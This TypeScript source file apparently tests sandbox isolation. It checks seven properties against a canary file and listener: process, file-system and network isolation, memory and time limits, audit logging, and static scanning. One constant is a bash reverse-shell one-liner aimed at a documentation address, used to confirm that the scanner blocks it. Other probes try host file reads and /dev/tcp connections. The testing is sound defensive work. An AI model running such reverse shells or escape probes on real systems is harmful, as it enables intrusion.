import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { readFile, rm, writeFile } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type CreateRequest, type Door, Fault, type Held } from '@caisson/wire'

/** The seven questions to ask of a sandbox. */
export const CHECKS = [
  'process isolation',
  'file-system isolation',
  'network isolation',
  'CPU and memory limits',
  'time limit',
  'audit log',
  'static analysis',
] as const

/** `proven`: just tried. `promised`: proven by the specs, not tried here. `unavailable`: this wall or this machine lacks it. */
export interface Check {
  readonly check: (typeof CHECKS)[number]
  readonly state: 'proven' | 'promised' | 'unavailable'
  /** What was observed, or why nothing was. */
  readonly evidence: string
}

interface Parts {
  readonly door: Pick<Door, 'create'>
  readonly request: CreateRequest
  /** Kinds of a sandbox's audit records. */
  recorded(sandbox: string, signal: AbortSignal): Promise<readonly string[]>
  /** How many executions an independent witness counts in a sandbox meanwhile; undefined: there is none. */
  executions?(sandbox: string, during: () => Promise<unknown>, signal: AbortSignal): Promise<number | undefined>
}

/** Both counts cover the same time. */
interface Witnessed {
  readonly executed: number
  readonly recorded: number
}

const MEMORY_MIB = 96
const LIFE_MS = 700
/** Time limit for a program that should hit a limit. If it does not, it ends differently. */
const PATIENCE_MS = 30_000
const MAX_SAID = 4096
/** To a documentation address that nobody has (RFC 5737). */
const REVERSE_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'

/** Tries each check on a sandbox behind the wall that `request` names, which must be a wall that has been tried already. */
export async function sevenChecks(parts: Parts, signal: AbortSignal): Promise<Check[]> {
  const canary = new Canary()
  await canary.open()
  try {
    const sandbox = await parts.door.create({ ...parts.request, network: { mode: 'none' } }, signal)
    let isolation: Check[]
    let witnessed: Witnessed | undefined
    try {
      isolation = [await processes(sandbox, signal), await files(sandbox, canary, signal), await network(sandbox, canary, signal)]
      witnessed = await witness(parts, sandbox, signal)
    } finally {
      await sandbox.kill(signal)
    }
    return [
      ...isolation,
      await memory(parts, signal),
      await time(parts, signal),
      await record(parts, sandbox.id, witnessed, signal),
      await scan(parts, signal),
    ]
  } finally {
    await canary[Symbol.asyncDispose]()
  }
}

async function processes(sandbox: Held, signal: AbortSignal): Promise<Check> {
  const check = 'process isolation'
  const said = await shell(
    sandbox,
    `cat /proc/${process.pid}/cmdline 2>/dev/null | tr '\\0' ' '; echo "|"; ls -d /proc/[0-9]* | wc -l`,
    signal,
  )
  const [mine = '', count = ''] = said.split('|').map((text) => text.trim())
  const own = (await readFile('/proc/self/cmdline', 'utf8')).replaceAll('\0', ' ').slice(0, MAX_SAID).trim()
  if (!/^\d+$/.test(count)) return untold(check, said)
  if (mine === own || count.length > 2)
    return { check, state: 'unavailable', evidence: `it sees processes of the host: ${said.slice(0, 200)}` }
  return { check, state: 'proven', evidence: `it sees ${count} processes, all its own; process ${process.pid} of the host is none of them` }
}

async function files(sandbox: Held, { path, token }: Canary, signal: AbortSignal): Promise<Check> {
  const check = 'file-system isolation'
  const said = await shell(sandbox, `cat ${path} 2>/dev/null; echo "|"; touch /usr/bin/${token} 2>&1 && echo made`, signal)
  const [read = '', written = ''] = said.split('|')
  if (read.includes(token)) return { check, state: 'unavailable', evidence: `it read ${path}, a file of the host` }
  if (written.includes('made')) return { check, state: 'unavailable', evidence: 'it made a file in /usr/bin' }
  if (!written.includes('touch: ')) return untold(check, said)
  return { check, state: 'proven', evidence: `${path}, which anyone on the host may read, is not there; /usr cannot be written` }
}

async function network(sandbox: Held, canary: Canary, signal: AbortSignal): Promise<Check> {
  const check = 'network isolation'
  const said = await shell(sandbox, `(exec 3<>/dev/tcp/127.0.0.1/${canary.port} && cat <&3) 2>&1; cut -d: -f1 -s /proc/net/dev`, signal)
  if (canary.heard > 0) return { check, state: 'unavailable', evidence: 'it reached a listener of the host' }
  if (!said.includes('/dev/tcp/')) return untold(check, said)
  return {
    check,
    state: 'proven',
    evidence: `a listener of the host on 127.0.0.1:${canary.port} was not reached (${said.includes('refused') ? 'refused' : 'no answer'})`,
  }
}

/** A check that could not be tried has not passed. */
function untold(check: Check['check'], said: string): Check {
  return { check, state: 'unavailable', evidence: `the program that tries it did not say how that went: ${said.slice(0, 200)}` }
}

async function memory({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
  const check = 'CPU and memory limits'
  return await limited(check, async () => {
    const sandbox = await door.create({ ...request, memoryMiB: MEMORY_MIB, cpus: 1 }, signal)
    // tail(1) keeps an unfinished line in memory as a whole. What follows it gives a wall the time to tell that it was ended for that.
    const program = `head -c ${4 * MEMORY_MIB}m /dev/zero | tail -c ${4 * MEMORY_MIB}m | tail -n 1 | wc -c; sleep 5`
    const reason = await endOf(sandbox, program, signal)
    if (reason === 'memory')
      return {
        check,
        state: 'proven',
        evidence: `a program that wanted ${4 * MEMORY_MIB} MiB with a limit of ${MEMORY_MIB} was ended: memory; the share of the processors, which the same group of the kernel holds, was not timed`,
      }
    return {
      check,
      state: 'unavailable',
      evidence: `a program that wanted ${4 * MEMORY_MIB} MiB with a limit of ${MEMORY_MIB} ended otherwise: ${reason}`,
    }
  })
}

async function time({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
  const check = 'time limit'
  return await limited(check, async () => {
    const sandbox = await door.create({ ...request, timeoutMs: LIFE_MS }, signal)
    const reason = await endOf(sandbox, 'sleep 3600', signal)
    const state = reason === 'timeout' ? 'proven' : 'unavailable'
    return { check, state, evidence: `a program that wanted an hour, with a limit of ${LIFE_MS} ms, ended: ${reason}` }
  })
}

/** Runs a program that starts others, observed by two independent witnesses. */
async function witness({ recorded, executions }: Parts, sandbox: Held, signal: AbortSignal): Promise<Witnessed | undefined> {
  if (executions === undefined) return undefined
  const count = async () => (await recorded(sandbox.id, signal)).filter((kind) => kind === 'exec').length
  const before = await count()
  const executed = await executions(sandbox.id, () => shell(sandbox, 'for word in 1 2 3; do /bin/true $word; done', signal), signal)
  return executed === undefined ? undefined : { executed, recorded: (await count()) - before }
}

async function record(
  { recorded, request }: Parts,
  sandbox: string,
  witnessed: Witnessed | undefined,
  signal: AbortSignal,
): Promise<Check> {
  const check = 'audit log'
  const kinds = await recorded(sandbox, signal)
  const lacking = ['create', 'command', 'death'].filter((kind) => !kinds.includes(kind))
  if (lacking.length > 0) return { check, state: 'unavailable', evidence: `of ${sandbox} the record lacks: ${lacking.join(', ')}` }
  const told = request.wall === 'microvm' ? 'what children execute, too, as the machine says it' : 'what children execute, too'
  const children = kinds.includes('exec') ? told : 'but not what children execute'
  const evidence = `${kinds.length} records of ${sandbox}, from its plan to its end, ${children}`
  if (witnessed === undefined) return { check, state: 'proven', evidence }
  const state = witnessed.recorded < witnessed.executed ? 'unavailable' : 'proven'
  return {
    check,
    state,
    evidence: `${evidence}; of ${witnessed.executed} executions that the kernel counted, ${witnessed.recorded} are in it`,
  }
}

/** The scan gives early feedback behind every wall; the other checks do not depend on it. */
async function scan({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
  const check = 'static analysis'
  const sandbox = await door.create({ ...request, scan: 'block' }, signal)
  try {
    await shell(sandbox, REVERSE_SHELL, signal)
    return { check, state: 'unavailable', evidence: 'a reverse shell was not seen for what it is' }
  } catch (failure) {
    if (!(failure instanceof Fault)) throw failure
    const state = failure.code === 'SCAN_REFUSED' ? 'proven' : 'unavailable'
    return { check, state, evidence: `a reverse shell, to be refused before it runs: ${failure.message}` }
  } finally {
    await sandbox.kill(signal)
  }
}

/** A limit that cannot be enforced here is refused by name. */
async function limited(check: Check['check'], tried: () => Promise<Check>): Promise<Check> {
  try {
    return await tried()
  } catch (failure) {
    if (!(failure instanceof Fault)) throw failure
    return { check, state: 'unavailable', evidence: `${failure.code}: ${failure.message}` }
  }
}

async function shell(sandbox: Held, script: string, signal: AbortSignal): Promise<string> {
  const started = await sandbox.start({ command: '/bin/bash', args: ['-c', script], timeoutMs: PATIENCE_MS }, signal)
  const pieces: Uint8Array[] = []
  for await (const { bytes } of started.output) pieces.push(bytes)
  await started.exit
  return Buffer.concat(pieces).toString().slice(0, MAX_SAID)
}

/** How the sandbox ended, or `its program` if the sandbox lives on. */
async function endOf(sandbox: Held, script: string, signal: AbortSignal): Promise<string> {
  const over = shell(sandbox, script, signal).then(
    () => 'its program',
    () => sandbox.ended.then(({ reason }) => reason),
  )
  const first = await Promise.race([sandbox.ended.then(({ reason }) => reason), over])
  if (first === 'its program') return (await sandbox.kill(signal)).reason === 'kill' ? 'by itself' : (await sandbox.ended).reason
  await over
  return first
}

/** A file that every host user can read, and a listener that every host user can reach. */
class Canary implements AsyncDisposable {
  readonly token = `canary${randomBytes(8).toString('hex')}`
  readonly path = join(tmpdir(), this.token)
  heard = 0
  readonly #server = createServer((peer) => {
    this.heard += 1
    peer.on('error', () => peer.destroy())
    peer.end(this.token)
  })

  get port(): number {
    return (this.#server.address() as AddressInfo).port
  }

  async open(): Promise<void> {
    await writeFile(this.path, this.token, { mode: 0o644 })
    await once(this.#server.listen(0, '127.0.0.1'), 'listening')
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.close()
    await rm(this.path, { force: true })
  }
}
